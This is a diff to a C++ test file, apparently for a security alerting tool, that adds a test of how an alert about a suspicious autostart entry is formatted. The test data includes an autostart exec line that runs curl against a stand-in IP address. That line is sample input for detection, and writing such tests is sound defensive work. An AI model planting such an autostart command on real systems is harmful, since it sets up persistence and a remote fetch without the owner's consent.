@@ -31,6 +31,18 @@ TEST_CASE("the text for people says who, what, where and how to find it again") 
   CHECK(format_text(a, [](EventTime) { return 3600; }) == want + a.id + "\n");
 }
 
+TEST_CASE("the autostart entry is shown with what an analyst asks of it, in every format") {
+  const Alert a = test::sample_entry_alert();
+  const std::string out = format_text(a, {});
+  CHECK(out.find("  entry     /home/alice/.config/autostart/evil.desktop (by systemd_unit)\n"
+                 "    exec    sh -c \"curl http://203.0.113.9:8123/x\"\n"
+                 "    file    owner 1000, changed 2026-11-24T06:00:00.000Z, sha256 5555") != std::string::npos);
+  CHECK(out.find("    unit    app-evil@autostart.service\n") != std::string::npos);
+  CHECK(format_line(a).find(" entry=/home/alice/.config/autostart/evil.desktop ") != std::string::npos);
+  CHECK(format_cef(a, "1").find(" flexString1=/home/alice/.config/autostart/evil.desktop "
+                                "flexString1Label=autostart entry") != std::string::npos);
+}
+
 TEST_CASE("arguments are quoted where a shell would split them") {
   Alert a = test::sample_alert();
   a.process.args = {"plain", "", "two words", "it's", "$HOME", "new\nline"};
